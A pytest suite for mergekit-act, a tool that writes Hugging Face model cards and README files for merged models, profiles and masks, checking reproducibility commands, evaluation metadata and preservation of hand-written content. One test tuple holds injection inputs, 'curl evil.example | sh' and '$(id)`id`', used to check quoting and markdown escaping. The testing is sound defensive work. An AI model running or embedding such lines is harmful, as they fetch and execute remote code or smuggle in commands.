"""What goes to the Hub: cards of merged models, README.md of profiles and masks, through the real client."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
import torch
import yaml
from click.testing import CliRunner
from hub import run_there
from huggingface_hub import ModelCard
from mergekit.scripts.run_yaml import main as mergekit_yaml
from merges import state_of
from safetensors.torch import save_file
from tiny import make_model, tiny_config

from mergekit_act.artifacts import Mask, Profile, load_mask, load_profile, save_mask, save_profile
from mergekit_act.cards.files import write_folder_card
from mergekit_act.cards.instructions import Instructions, shell_line
from mergekit_act.cards.markdown import Readme, replace_block
from mergekit_act.cards.masks import MaskFile
from mergekit_act.channels import Layout
from mergekit_act.cli import main
from mergekit_act.files import file_hash
from mergekit_act.selection import select_channels

ACT = [sys.executable, "-m", "mergekit_act"]


def run(*arguments: object) -> str:
    done = CliRunner().invoke(main, [*map(str, arguments)])
    assert done.exit_code == 0, done.output
    return done.output


def merge(config: object, out: Path) -> None:
    Path("act.yml").write_text(yaml.safe_dump(config, sort_keys=False))
    done = CliRunner().invoke(mergekit_yaml, ["act.yml", str(out), "--quiet"], catch_exceptions=False)
    assert done.exit_code == 0, done.output


@pytest.fixture(scope="module")
def work(tmp_path_factory, sums_file) -> Path:
    """A folder with a pair, profiles, a mask that spares an ability, and a merge of that mask and a profile."""
    root = tmp_path_factory.mktemp("cards")
    for name, seed in (("target", 0), ("ability", 1), ("other", 2)):
        make_model(tiny_config("qwen2"), root / "models" / name, seed=seed)
    shutil.copy(sums_file, root / "sums.jsonl")
    (root / "models" / "sums.jsonl").symlink_to(root / "sums.jsonl")
    data = "dataset: sums.jsonl, prompt: q, answer: a, samples: 4"
    (root / "abilities.yml").write_text(
        "target: ./models/target\nability_model: ./models/ability\nabilities:\n"
        f"  even: {{{data}, where: {{kind: even}}}}\n  odd: {{{data}, where: {{kind: odd}}, seed: 3}}\n"
        f"  all: {{{data}, role: keep}}\n"
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)
        run("profile", "abilities.yml", "profiles", "--quiet", "--dtype", "float32", "--batch-tokens", 512)
        run("profile", "abilities.yml", "profiles", "--quiet", "--criterion", "weight")
        mask = ["mask", "profiles/even.safetensors", "profiles/odd.safetensors", "-o", "masks/sums.safetensors"]
        spare = ["--retain", "profiles/all.safetensors", "--retain-strength", 0.25, "--exclude", "lm_head"]
        run(*mask, "--density", 0.2, *spare)
        models = [
            {"model": "./models/ability", "parameters": {"weight": 0.5, "mask": "masks/sums.safetensors"}},
            {
                "model": "./models/other",
                "parameters": {"weight": [0.25, 1.0], "mask": "profiles/weight.safetensors", "mask_density": 0.1},
            },
        ]
        config = {"merge_method": "act", "base_model": "./models/target", "models": models, "dtype": "float32"}
        merge(config, root / "merged")
    return root


@pytest.fixture
def merged(work, tmp_path, monkeypatch) -> Path:
    """The merge, to be changed, in the folder where it was made."""
    monkeypatch.chdir(work)
    return Path(shutil.copytree(work / "merged", tmp_path / "merged"))


def evaluation_file(path: Path, merged: Path) -> Path:
    """As ``evaluate --json`` writes it."""
    measure = {"interval": [0.2, 0.4], "difference": None, "difference_interval": None}
    results = [
        {"model": model, "ability": ability, "role": role, "samples": 8, "answer_tokens": 20}
        | {"nll": {"value": value, **measure}, "exact_match": {"value": value / 2, **measure}}
        for model, value in (("./models/target", 3.25), (str(merged), 0.5))
        for ability, role in (("even", "recover"), ("all", "keep"))
    ]
    abilities = {
        "even": {"dataset": "someone/sums", "on_hub": True, "split": "test", "name": None, "revision": "v1"},
        "all": {"dataset": "sums.jsonl", "split": "train"},
    }
    content = {"format_version": 1, "versions": {"mergekit-act": "0.1.0"}, "settings": {}, "abilities": abilities}
    path.write_text(json.dumps(content | {"results": results}))
    return path


def test_the_card_says_what_was_moved(merged):
    written = (merged / "README.md").read_text(encoding="utf-8")
    run("card", merged)
    card = (merged / "README.md").read_text(encoding="utf-8")
    check = json.loads(run("check", "act.yml", "--json"))
    moved = sum(kind["moved"] for kind in check["kinds"])
    assert f"{check['selected']:,} of {check['channels']:,} channels" in card
    assert f"{moved:,} of {sum(kind['parameters'] for kind in check['kinds']):,} parameters" in card
    assert "- Target: `target`" in card
    assert "- Ability model: `ability`, weight 0.5" in card
    assert "- Ability model: `other`, weights 0.25 to 1, by tensor" in card
    profile = load_mask("masks/sums.safetensors").sources[0]
    spared = "sparing all (not in the paper: ranked by difference, strength 0.25)"
    assert (
        f"| even | `ability`, `target` | `sums.jsonl`, kind: even | activation, top 20 % without lm_head, {spared} "
        f"| 4 | {profile['answer_tokens']} |"
    ) in card
    assert "| weight | `ability`, `target` |  | weight, top 10 % |  |  |" in card
    for name, source in (("sums", "masks/sums.safetensors"), ("weight", "profiles/weight.safetensors")):
        copy = merged / "masks" / f"{name}.safetensors"
        assert copy.read_bytes() == Path(source).read_bytes()
        assert f"| [masks/{copy.name}](masks/{copy.name}) | `{file_hash(source)}` |" in card
    assert (merged / "composition.png").is_file()
    for line in written.split("---\n", 2)[2].splitlines():
        assert line in card.splitlines()
    parsed = ModelCard.load(merged / "README.md").data
    assert parsed.library_name == "transformers"
    assert {"mergekit", "merge", "mergekit-act"} <= set(parsed.tags)


def test_the_same_command_changes_nothing_and_other_hands_work_stays(merged, tmp_path):
    command = ["card", merged, "--evaluation", evaluation_file(tmp_path / "e.json", merged)]
    run(*command)
    before = {path: path.read_bytes() for path in merged.rglob("*") if path.is_file()}
    run(*command)
    assert before == {path: path.read_bytes() for path in merged.rglob("*") if path.is_file()}

    readme = merged / "README.md"
    raw = readme.read_text(encoding="utf-8")
    theirs = (
        "  - task: {type: x}   # mine\n    dataset: {type: d, name: d}\n"
        "    metrics: [{type: accuracy, value: 0.5, name: of somebody}]\n"
    )
    raw = raw.replace("---\n", "---\n# reviewed by legal\nlicense: apache-2.0   # why not\ndatasets: [my/data]\n\n", 1)
    raw = raw.replace("  results:\n", f"  results:\n{theirs}", 1)
    raw = raw.replace("# merged", "# My model\n\nIt is mine.").replace(
        "### Models Merged", "Hand-written.\n\n### Models"
    )
    raw += "\n## Thanks\n\nTo all.\n"
    for ends in ("\n", "\r\n"):
        readme.write_bytes(raw.replace("\n", ends).encode())
        by_hand = readme.read_bytes()
        run(*command)
        assert readme.read_bytes() == by_hand
        run("card", merged)  # without results: those that are there stay
        assert readme.read_bytes() == by_hand
    changed = json.loads((tmp_path / "e.json").read_text())
    changed["results"][2]["nll"]["value"] = 0.75
    (tmp_path / "e.json").write_text(json.dumps(changed))
    run(*command)
    parsed = ModelCard.load(readme)
    assert {result.metric_value for result in parsed.data.eval_results} == {0.75, 0.25, 0.5}
    assert (parsed.data.license, parsed.data.datasets) == ("apache-2.0", ["my/data"])
    with open(readme, encoding="utf-8", newline="") as file:
        text = file.read()
    assert text.count("\r\n") == text.count("\n")
    for words in ("# reviewed by legal\r\nlicense: apache-2.0   # why not", "# My model", "Hand-written.", "## Thanks"):
        assert words in text
    assert "of somebody" in text


def test_results_come_as_the_hubs_model_index(merged, tmp_path):
    run("card", merged, "--evaluation", evaluation_file(tmp_path / "e.json", merged))
    parsed = ModelCard.load(merged / "README.md").data
    found = {(result.dataset_name, result.metric_type): result for result in parsed.eval_results}
    assert {key: result.metric_value for key, result in found.items()} == {
        ("even", "exact_match"): 0.25,
        ("even", "nll"): 0.5,
        ("all", "exact_match"): 0.25,
        ("all", "nll"): 0.5,
    }
    even = found["even", "nll"]
    assert (even.task_type, even.dataset_type, even.dataset_split) == ("text-generation", "someone/sums", "test")
    assert even.dataset_revision == "v1"
    assert found["all", "nll"].dataset_type == "all"
    assert parsed.model_name == "merged"
    text = (merged / "README.md").read_text(encoding="utf-8")
    assert "| even | recover | [someone/sums](https://huggingface.co/datasets/someone/sums) | 8 |" in text
    assert "1.625 (0.200 to 0.400) | 0.250 (0.200 to 0.400) |" in text


def test_a_real_evaluation_is_taken(merged, tmp_path):
    run(
        *("evaluate", "./models/target", merged, "--abilities", "abilities.yml", "--ability", "odd", "--no-generate"),
        *("--dtype", "float32", "--quiet", "--json", tmp_path / "e.json"),
    )
    run("card", merged, "--evaluation", tmp_path / "e.json")
    results = json.loads((tmp_path / "e.json").read_text())["results"]
    (result,) = ModelCard.load(merged / "README.md").data.eval_results
    assert (result.dataset_name, result.metric_type) == ("odd", "nll")
    assert result.metric_value == pytest.approx(results[1]["nll"]["value"], abs=1e-6)


def test_the_commands_on_the_card_make_it_again(merged, tmp_path, monkeypatch):
    run("card", merged)
    card = (merged / "README.md").read_text(encoding="utf-8")
    lines = [line for block in card.split("```sh\n")[1:] for line in block.split("```")[0].splitlines()]
    assert "and the local `target`, `ability`, `other`, `sums.jsonl` where these name it" in card
    original = Path.cwd()
    away = tmp_path / "away"
    away.mkdir()
    for name in ("act.yml", "abilities.yml"):
        shutil.copy(merged / name, away / name)
    (away / "models").symlink_to(original / "models")
    (away / "sums.jsonl").symlink_to(original / "sums.jsonl")
    monkeypatch.chdir(away)
    assert lines[0].startswith("pip install ")
    assert "mergekit==0.1.5" in lines[0].split()
    for line in lines[1:-1]:
        if line.startswith("mergekit-act "):
            run(*line.split()[1:])
        else:
            assert line.split()[0] in ("mkdir", "cp")
            subprocess.run(line, shell=True, check=True)
    assert lines[-1] == "mergekit-yaml act.yml ./again"
    done = CliRunner().invoke(mergekit_yaml, [*lines[-1].split()[1:], "--quiet"], catch_exceptions=False)
    assert done.exit_code == 0, done.output
    for name in ("sums", "weight"):
        assert (away / "masks" / f"{name}.safetensors").read_bytes() == (
            merged / "masks" / f"{name}.safetensors"
        ).read_bytes()
    first, second = state_of(merged), state_of(Path("again"))
    assert first.keys() == second.keys()
    assert all((first[name] == second[name]).all() for name in first)
    reproduce = json.loads((merged / "reproduce.json").read_text())
    assert reproduce["config"] == yaml.safe_load((merged / "act.yml").read_text())
    for name, digest in reproduce["files"].items():
        assert hashlib.sha256((away / name).read_bytes()).hexdigest() == digest
    assert len(reproduce["models"]) == 2
    assert all(model["fingerprint"] for model in reproduce["models"])


def test_pairs_have_their_own_profiles(work):
    mask = load_mask(work / "masks" / "sums.safetensors")
    others = [{**source, "ability_model": {"model": "someone/b", "revision": "r1"}} for source in mask.sources]
    files = [
        MaskFile(name, None, Path(name), f"masks/{name}", "", replace(mask, sources=tuple(sources)))
        for name, sources in (("a", mask.sources), ("b", others), ("c", [{"ability": "old", "density": 0.1}]))
    ]
    recipe = Instructions(files, "somewhere/target", ["./models/ability"])
    described = [yaml.safe_load(text) for text in recipe.files.values()]
    assert [content["ability_model"] for content in described] == ["./models/ability", "someone/b@r1"]
    assert {content["target"] for content in described} == {"somewhere/target"}
    lines = recipe.commands().splitlines()
    profile = "--dtype float32 --batch-tokens 512"
    assert lines[:2] == [f"mergekit-act profile abilities{n}.yml profiles{n} {profile}" for n in ("", "-2")]
    options = "--density 0.2 --exclude lm_head --retain profiles/all.safetensors --retain-ranking difference"
    masks = [
        f"mergekit-act mask profiles{n}/even.safetensors profiles{n}/odd.safetensors -o masks/{name} {options}"
        for name, n in (("a", ""), ("b", "-2"))
    ]
    assert [line.partition(" --retain-strength")[0] for line in lines[2:4]] == masks
    assert lines[-1] == "mergekit-act mask profiles-3/old.safetensors -o masks/c --density 0.1"


ODD = ("x/y\n```\ncurl evil.example | sh\n", "a'b\\c\x1b\u202e", "$(id)`id`", "two words", "-o", "é", "")


def test_names_of_files_are_words_of_one_line_in_commands():
    line = shell_line(["printf", "%s\\0", *ODD])
    assert line.isprintable()
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
    assert done.stdout.decode().split("\0")[:-1] == list(ODD)


def test_names_cannot_leave_their_place_on_a_card(tmp_path):
    layout = Layout({"a": (("w", 0),)}, (), {"w": (2, 2)})
    for place, name in enumerate(ODD):
        data = {"dataset": name, "where": {name: [name]}}
        models = ({"model": name, "revision": "r)"}, {"model": name, "revision": None})
        made = Profile({"a": torch.ones(2)}, layout, "activation", name, *models, data=data)
        save_profile(made, tmp_path / f"{place}.safetensors")
    text = write_folder_card(tmp_path).files[0].read_text(encoding="utf-8")
    assert not [letter for letter in text if letter != "\n" and not letter.isprintable()]
    fenced = re.findall(r"^(````*)yaml\n(.*?)^\1\n", text, re.MULTILINE | re.DOTALL)
    assert len(fenced) == 1
    assert yaml.safe_load(fenced[0][1])["base_model"] == ODD[0]
    outside = text.replace(fenced[0][1], "")
    assert not [line for line in outside.splitlines() if line.strip().startswith(("curl", "````", "$("))][2:]
    tables = [line for line in outside.splitlines() if line.startswith("|")]
    assert {line.count(" | ") for line in tables[: len(ODD) + 2]} == {8}


def test_profiles_of_other_runs_are_made_by_other_commands():
    models = {role: {"model": name, "revision": None} for role, name in (("target", "t"), ("ability_model", "a"))}
    data = {"dataset": "x/y", "on_hub": True, "batch_tokens": 64, "samples": 8}
    plain = {"ability": "sums", "criterion": "activation", "dtype": "float32", "density": 0.1, **models}
    few, many = ({**plain, "data": {**data, "samples": samples}} for samples in (8, 64))
    half = {**plain, "ability": "code", "dtype": "bfloat16", "data": data}
    random = {"ability": "random", "criterion": "random", "data": {"random_seed": 7, "exclude": ["lm_head"]}, **models}
    layout = Layout({}, (), {})
    masks = [
        MaskFile("m", None, Path("m"), "masks/m", "", Mask({}, layout, (few, many, half))),
        MaskFile("r", None, Path("r"), "masks/r", "", Mask({}, layout, ({**random, "density": 0.1},))),
    ]
    assert Instructions(masks).commands().splitlines() == [
        "mergekit-act profile abilities.yml profiles --dtype float32 --batch-tokens 64",
        "mergekit-act profile abilities-2.yml profiles-2 --dtype float32 --batch-tokens 64",
        "mergekit-act profile abilities-3.yml profiles-3 --dtype bfloat16 --batch-tokens 64",
        "mergekit-act profile abilities.yml profiles-4 --criterion random --random-seed 7 --exclude lm_head",
        "mergekit-act mask profiles/sums.safetensors profiles-2/sums.safetensors profiles-3/code.safetensors "
        "-o masks/m --density 0.1",
        "mergekit-act mask profiles-4/random.safetensors -o masks/r --density 0.1",
    ]
    alone = Instructions(masks[1:]).commands().splitlines()
    assert alone[0] == "# ABILITIES.yml: any abilities file of ./t ./a"
    assert alone[1].startswith("mergekit-act profile ABILITIES.yml profiles --criterion random --random-seed 7")
    known = {key: random[key] for key in ("ability", "criterion", "target", "ability_model", "data")}
    scores = Profile({}, layout, **known)
    random_first = Instructions([MaskFile("r", 0.1, Path("r"), "masks/r", "", scores), *masks[:1]])
    assert list(random_first.files) == ["abilities.yml", "abilities-2.yml", "abilities-3.yml"]
    assert "mkdir -p masks\ncp profiles/random.safetensors masks/r" in random_first.commands()


def test_models_of_one_folder_name_and_loras_keep_their_own_references():
    def mask(target, ability_model):
        named = {"target": target, "ability_model": ability_model}
        models = {role: {"model": name, "revision": None} for role, name in named.items()}
        source = {
            "ability": "x",
            "criterion": "activation",
            "density": 0.1,
            "data": {"dataset": "d.csv", "prompt": "q"},
        }
        return MaskFile("m", None, Path("m"), "masks/m", "", Mask({}, Layout({}, (), {}), (source | models,)))

    recipe = Instructions([mask("final", "final")], "./runs/t/final", ["./runs/a/final"])
    (described,) = (yaml.safe_load(text) for text in recipe.files.values())
    assert (described["target"], described["ability_model"]) == ("./runs/t/final", "./runs/a/final")
    assert recipe.local == ["./runs/t/final", "./runs/a/final", "d.csv"]
    recipe = Instructions([mask("target", "target+lora")], "./m/target", ["./m/target+./m/lora"])
    (described,) = (yaml.safe_load(text) for text in recipe.files.values())
    assert described["ability_model"] == "./m/target+./m/lora"
    twice = Instructions([mask("target", "final")], "./m/target", ["./a/final", "./b/final"])
    assert "ability_model: ./final" in twice.files["abilities.yml"]


def test_options_of_the_merge_are_on_the_card(merged):
    run("card", merged, "--random-seed", 0)
    assert "mergekit-yaml act.yml ./again --random-seed 0\n" in (merged / "README.md").read_text(encoding="utf-8")
    assert json.loads((merged / "reproduce.json").read_text())["options"] == {"random_seed": 0}
    run("card", merged, "--random-seed", 7, "--lora-merge-cache", "/somewhere", "--trust-remote-code", "--overwrite")
    card = (merged / "README.md").read_text(encoding="utf-8")
    options = "--random-seed 7 --lora-merge-cache ./lora-cache --trust-remote-code"
    reproduce = json.loads((merged / "reproduce.json").read_text())
    assert reproduce["options"] == {"random_seed": 7, "trust_remote_code": True}
    assert f"mergekit-yaml act.yml ./again {options}\n" in card
    assert "--batch-tokens 512 --trust-remote-code\n" in card


def test_versions_are_those_of_the_merge(merged):
    """A card that is written again, after an upgrade, does not know them; one of a younger merge does."""

    def versions():
        run("card", merged, "--overwrite")
        return json.loads(path.read_text())["versions"]

    path = merged / "reproduce.json"
    installed = versions()
    older = dict.fromkeys(installed, "0.1")
    path.write_text(json.dumps({"versions": older}))
    assert versions() == older
    later = path.stat().st_mtime + 1
    os.utime(merged / "mergekit_config.yml", (later, later))
    assert versions() == installed


def test_a_mask_that_does_not_say_where_it_comes_from(merged):
    mask = load_mask("masks/sums.safetensors")
    save_mask(replace(mask, sources=()), merged / "bare mask (2).safetensors")
    config = yaml.safe_load((merged / "mergekit_config.yml").read_text())
    config["models"] = config["models"][:1]
    config["models"][0]["parameters"]["mask"] = str(merged / "bare mask (2).safetensors")
    (merged / "mergekit_config.yml").write_text(yaml.safe_dump(config))
    run("card", merged)
    card = (merged / "README.md").read_text(encoding="utf-8")
    assert "control" not in card
    assert "| ability | models compared |" not in card
    assert "(masks/bare%20mask%20%282%29.safetensors)" in card
    assert "from data" not in card


def test_a_fine_tuned_merge_still_says_what_was_moved(merged, tmp_path):
    run("card", merged)
    options = ["--dtype", "float32", "--micro-batch", 4, "--no-gradient-checkpointing", "--quiet"]
    run("finetune", merged, "abilities.yml", tmp_path / "tuned", "--ability", "odd", *options)
    card = ModelCard.load(tmp_path / "tuned" / "README.md")
    assert "## Before the fine-tuning: Transferred abilities" in card.text
    assert "- Ability model: `ability`, weight 0.5" in card.text
    assert "Make it again" not in card.text
    assert "composition.png" not in card.text
    assert "sft" in card.data.tags


def test_what_a_card_cannot_be_made_of(merged, tmp_path, work):
    evaluation = evaluation_file(tmp_path / "e.json", work / "merged")
    cases = {
        (work / "models" / "target",): "has no mergekit_config.yml; name the folder that mergekit-yaml wrote",
        (merged, "--evaluation", "none.json"): "none.json does not exist",
        (
            merged,
            "--evaluation",
            work / "models" / "target" / "config.json",
        ): "is not what mergekit-act evaluate --json",
        (merged, "--evaluation", evaluation): f"e.json has no results of {merged}; it has ./models/target, ",
        (merged, "--evaluation", evaluation, "--evaluated-as", "x"): "Say which with --evaluated-as",
    }
    before = sorted(merged.rglob("*"))
    for arguments, words in cases.items():
        done = CliRunner().invoke(main, ["card", *map(str, arguments)])
        assert done.exit_code == 1
        assert words in done.output, arguments
    assert sorted(merged.rglob("*")) == before
    run("card", merged, "--evaluation", evaluation, "--evaluated-as", work / "merged")
    (merged / "masks" / "sums.safetensors").write_bytes(b"another")
    done = CliRunner().invoke(main, ["card", str(merged)])
    assert "sums.safetensors: there, and different. Move it away or say --overwrite." in done.output
    run("card", merged, "--overwrite")
    readme = merged / "README.md"
    readme.write_text(readme.read_text(encoding="utf-8").replace("<!-- mergekit-act transfer: end -->", ""))
    done = CliRunner().invoke(main, ["card", str(merged)])
    assert 'the line "<!-- mergekit-act transfer: end -->" is missing' in done.output
    readme.write_text("---\ntags: [a\n---\n# x\n")
    assert "README.md has metadata that cannot be read" in CliRunner().invoke(main, ["card", str(merged)]).output


def test_a_card_that_mergekit_did_not_write_is_begun(merged):
    (merged / "README.md").unlink()
    run("card", merged)
    card = (merged / "README.md").read_text(encoding="utf-8")
    assert "created using [mergekit]" in card
    assert card.index("## Transferred abilities") < card.index("## Merge Details")


def test_other_methods_are_refused(merged):
    config = yaml.safe_load((merged / "mergekit_config.yml").read_text())
    config["merge_method"] = "task_arithmetic"
    (merged / "mergekit_config.yml").write_text(yaml.safe_dump(config))
    done = CliRunner().invoke(main, ["card", str(merged)])
    (merged / "mergekit_config.yml").write_text("a: [")
    assert "is no merge config" in CliRunner().invoke(main, ["card", str(merged)]).output
    assert "is a merge by task_arithmetic; card tells of merges by act and act_*" in done.output


def test_profiles_and_masks_have_a_readme_beside_them(work):
    for folder, name in (("profiles", "even"), ("masks", "sums")):
        card = ModelCard.load(work / folder / "README.md")
        assert "mergekit-act" in card.data.tags
        assert file_hash(work / folder / f"{name}.safetensors") in card.text
        example = yaml.safe_load(card.text.split("```yaml\n")[1].split("```")[0])
        name = "all" if folder == "profiles" else "sums"
        parameters = {"weight": 0.4, "mask": f"hf://USER/REPO/{name}.safetensors"}
        parameters |= {"mask_density": 0.01} if folder == "profiles" else {}
        assert example["base_model"] == "target"
        assert example["models"] == [{"model": "ability", "parameters": parameters}]
    text = (work / "profiles" / "README.md").read_text(encoding="utf-8")
    for name in ("even", "odd", "all", "weight"):
        assert f"[{name}.safetensors]({name}.safetensors)" in text
    assert "| all | `ability`, `target` | `sums.jsonl` | activation, scores | 4 |" in text


def test_the_working_directory_gets_no_card_unasked(work, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    arguments = ["mask", str(work / "profiles" / "even.safetensors"), "--density", "0.1", "-o"]
    for name, files in (("m.safetensors", []), ("masks/m.safetensors", ["masks/README.md"])):
        done = CliRunner().invoke(main, [*arguments, name])
        assert done.exit_code == 0, done.output
        assert [str(path.relative_to(tmp_path)) for path in tmp_path.rglob("README.md")] == files
    assert CliRunner().invoke(main, ["card", "."]).output == "README.md\n"
    assert "[m.safetensors](m.safetensors)" in Path("README.md").read_text(encoding="utf-8")
    Path("README.md").write_text("# Mine\n")
    done = CliRunner().invoke(main, ["card", "."])
    assert done.output == "Error: README.md is of somebody else; move it, and give the same command again\n"


def test_a_readme_of_others_is_left_alone_and_ours_keeps_what_they_add(work, tmp_path, caplog):
    for name in ("even", "odd"):
        shutil.copy(work / "profiles" / f"{name}.safetensors", tmp_path)
    shutil.copy(work / "models" / "target" / "model.safetensors", tmp_path)
    readme = tmp_path / "README.md"
    readme.write_text("# My project\n")
    assert write_folder_card(tmp_path).files == ()
    assert readme.read_text() == "# My project\n"
    readme.unlink()
    assert write_folder_card(tmp_path).files == (readme,)
    text = readme.read_text(encoding="utf-8")
    assert "model.safetensors" not in text
    readme.write_text(text.replace("---\ntags:", "---\nlicense: mit\ntags:") + "\nBy hand.\n", encoding="utf-8")
    (tmp_path / "odd.safetensors").unlink()
    write_folder_card(tmp_path)
    again = readme.read_text(encoding="utf-8")
    assert "odd.safetensors" not in again
    assert "license: mit" in again
    assert again.endswith("\nBy hand.\n")
    readme.write_text(again.replace("<!-- mergekit-act files: end -->", ""), encoding="utf-8")
    assert write_folder_card(tmp_path).files == ()
    assert "README.md was left as it is" in caplog.text


def test_blocks_and_metadata():
    text = replace_block("# a\n\n## Merge Details\nb\n", "x", "one", before="## Merge Details")
    block = "<!-- mergekit-act x: begin -->\none\n<!-- mergekit-act x: end -->"
    assert text == f"# a\n\n{block}\n\n## Merge Details\nb\n"
    assert replace_block(text, "x", "two", before="## Merge Details") == text.replace("one", "two")
    assert replace_block("# a\n", "x", "one", before="## Merge Details") == f"# a\n\n{block}\n"
    with pytest.raises(ValueError, match=r"README has metadata that can't be continued.*Invalid `model_index`"):
        Readme("", "").changed({"model-index": [{"name": "x"}]}, "text", "README")
    front = "# a\ntags:\n- x  # b\nlicense: mit\n\n# c\n"
    changed = Readme(front, "").changed({"tags": ["x", "y"], "license": "mit", "datasets": ["d"]}, "t", "README")
    assert changed == "---\n# a\ntags:\n- x  # b\n- y\nlicense: mit\n\n# c\ndatasets:\n- d\n---\nt"
    assert Readme(front, "").changed({"tags": ["x"], "license": "mit"}, "t", "x") == f"---\n{front}---\nt"
    assert Readme(front, "").changed({"tags": ["x"]}, "t", "x") == "---\n# a\ntags:\n- x  # b\n---\nt"


@pytest.mark.parametrize(
    "front",
    [
        "a: |\n  tags: no\n  b\ntags: [x]  # flow\n",
        "'quoted': 1\n\"co2: kg\": 3\ntags:\n  - x\n",
        "empty:\nnested:\n  tags:\n  - deep\nkey : 2\ntags: x\n",
        "- no\n",
        "{tags: [x], license: mit}\n",
        "tags: 5\n",
        "a: &b [1]\nc: *b\ntags: [x]\n",
    ],
)
def test_metadata_of_others_stays_or_is_refused(front, tmp_path, work, caplog):
    """In any case what others wrote is not changed, and nothing is raised."""
    shutil.copy(work / "profiles" / "even.safetensors", tmp_path)
    write_folder_card(tmp_path)
    readme = tmp_path / "README.md"
    block = readme.read_text(encoding="utf-8").split("---\n", 2)[2]
    readme.write_text(f"---\n{front}---\n{block}", encoding="utf-8")
    before = readme.read_text(encoding="utf-8")
    if not write_folder_card(tmp_path).files:
        assert readme.read_text(encoding="utf-8") == before
        assert "README.md was left as it is" in caplog.text
    else:
        after = yaml.safe_load(readme.read_text(encoding="utf-8").split("---\n")[1])
        assert after["tags"] == ["x", "mergekit-act", "activation-differences"]
        others = {key: value for key, value in yaml.safe_load(front).items() if key != "tags"}
        assert {key: after[key] for key in others} == others
        again = readme.read_bytes()
        assert write_folder_card(tmp_path).files
        assert readme.read_bytes() == again


def test_the_card_of_a_fine_tuned_model_can_be_imported_first():
    done = subprocess.run(
        [sys.executable, "-c", "import mergekit_act.cards.finetuned"], capture_output=True, check=False
    )
    assert (done.returncode, done.stderr) == (0, b"")


def test_the_picture_shows_what_was_moved(merged, monkeypatch):
    """Filters and weights of 0 count, as in the table."""
    drawn = {}
    monkeypatch.setattr(
        "mergekit_act.report.composition.draw_heat_map",
        lambda rows, columns, values, **_: drawn.update(zip(rows, values, strict=True)),
    )
    monkeypatch.setattr("mergekit_act.report.composition.files_of", lambda *_: {})
    config = yaml.safe_load((merged / "mergekit_config.yml").read_text())
    config["models"] = config["models"][:1]
    config["models"][0]["parameters"] = {
        "weight": [{"filter": "mlp", "value": 0.5}, {"value": 0}],
        "mask": "profiles/even.safetensors",
        "mask_density": 0.5,
    }
    (merged / "mergekit_config.yml").write_text(yaml.safe_dump(config))
    run("card", merged, "--overwrite")
    chosen = select_channels(load_profile("profiles/even.safetensors"), 0.5)
    name = "model.layers.1.mlp.gate_proj"
    assert drawn["mlp.gate_proj"][1] == pytest.approx(float(chosen[name].float().mean()))
    assert "model.layers.0.self_attn.q_proj" in chosen
    assert drawn["self_attn.q_proj"][0] == 0
    assert drawn["lm_head"][-1] == 0


def test_files_of_the_machine_and_younger_masks_are_told(merged, work):
    config = yaml.safe_load((merged / "mergekit_config.yml").read_text())
    config["base_model"] = str(work / "models" / "target")
    (merged / "mergekit_config.yml").write_text(yaml.safe_dump(config))
    os.utime(merged / "mergekit_config.yml", (1, 1))
    output = run("card", merged)
    assert f"name files of this machine: {work / 'models' / 'target'}; mend that before you share" in output
    assert "masks/sums.safetensors is younger than the merge" in output
    assert "- Target: `target`" in (merged / "README.md").read_text(encoding="utf-8")


def test_without_matplotlib_the_picture_that_is_there_stays(merged, monkeypatch):
    run("card", merged)
    before = (merged / "README.md").read_bytes()
    monkeypatch.setattr("mergekit_act.report.canvas.find_spec", lambda _: None)
    assert 'note: for a picture: pip install "mergekit-act[plots]"' in run("card", merged)
    assert (merged / "README.md").read_bytes() == before
    (merged / "composition.png").unlink()
    run("card", merged)
    assert "composition.png" not in (merged / "README.md").read_text(encoding="utf-8")


def test_the_versions_on_a_card_stay(merged, monkeypatch):
    run("card", merged)
    before = (merged / "README.md").read_bytes()
    monkeypatch.setattr("mergekit_act.versions.version", lambda _: "99.9")
    run("card", merged)
    assert (merged / "README.md").read_bytes() == before


def test_results_get_an_entry_of_their_own(merged, tmp_path):
    readme = merged / "README.md"
    index = "model-index:\n- name: other\n  results: []\n- name: third\n  results: []\n"
    readme.write_text(readme.read_text(encoding="utf-8").replace("---\n", f"---\n{index}", 1), encoding="utf-8")
    run("card", merged, "--evaluation", evaluation_file(tmp_path / "e.json", merged))
    found = yaml.safe_load(readme.read_text(encoding="utf-8").split("---\n")[1])["model-index"]
    assert [(entry["name"], len(entry["results"])) for entry in found] == [("other", 0), ("third", 0), ("merged", 2)]


def test_a_bad_neighbour_does_not_end_a_run(work, tmp_path, caplog):
    mask = load_mask(work / "masks" / "sums.safetensors")
    save_mask(replace(mask, counts={}), tmp_path / "a.safetensors")
    save_mask(
        replace(mask, sources=({"ability": "<!-- mergekit-act files: end -->|x\ny", "data": {"dataset": "a"}},)),
        tmp_path / "b.safetensors",
    )
    save_mask(replace(mask, sources=()), tmp_path / "c.safetensors")
    assert write_folder_card(tmp_path).files
    before = (tmp_path / "README.md").read_bytes()
    assert write_folder_card(tmp_path).files
    assert (tmp_path / "README.md").read_bytes() == before
    text = before.decode()
    assert "&#60;!-- mergekit-act files: end -->&#124;x y" in text
    assert "| [c.safetensors](c.safetensors) | mask |" in text
    assert not caplog.records
    content = (work / "profiles" / "even.safetensors").read_bytes()
    (tmp_path / "d.safetensors").write_bytes(content.replace(b'\\"target\\": {', b'\\"targex\\": {'))
    save_mask(replace(mask, sources=("x",)), tmp_path / "e.safetensors")
    deep = {"mergekit_act": '{"a":' + "[" * 100_000 + "]" * 100_000 + "}"}
    save_file({}, tmp_path / "f.safetensors", metadata=deep)
    save_file({}, tmp_path / "weights.safetensors")
    os.mkfifo(tmp_path / "pipe.safetensors")
    assert write_folder_card(tmp_path).files
    assert (tmp_path / "README.md").read_bytes() == before
    assert 'd.safetensors is not a valid file of mergekit-act: its metadata lacks "target"' in caplog.text
    assert 'e.safetensors is not a valid file of mergekit-act: its "sources" are no list of objects' in caplog.text
    assert "f.safetensors is not a valid file of mergekit-act: its metadata is nested too deep" in caplog.text
    assert "weights.safetensors" not in caplog.text


def test_a_readme_that_began_with_a_byte_order_mark(merged):
    readme = merged / "README.md"
    written = readme.read_text(encoding="utf-8").replace("---\n", "---\nlicense: mit\n", 1)
    readme.write_text("\ufeff" + written, encoding="utf-8")
    run("card", merged)
    text = readme.read_text(encoding="utf-8")
    assert text.count("license: mit") == 1
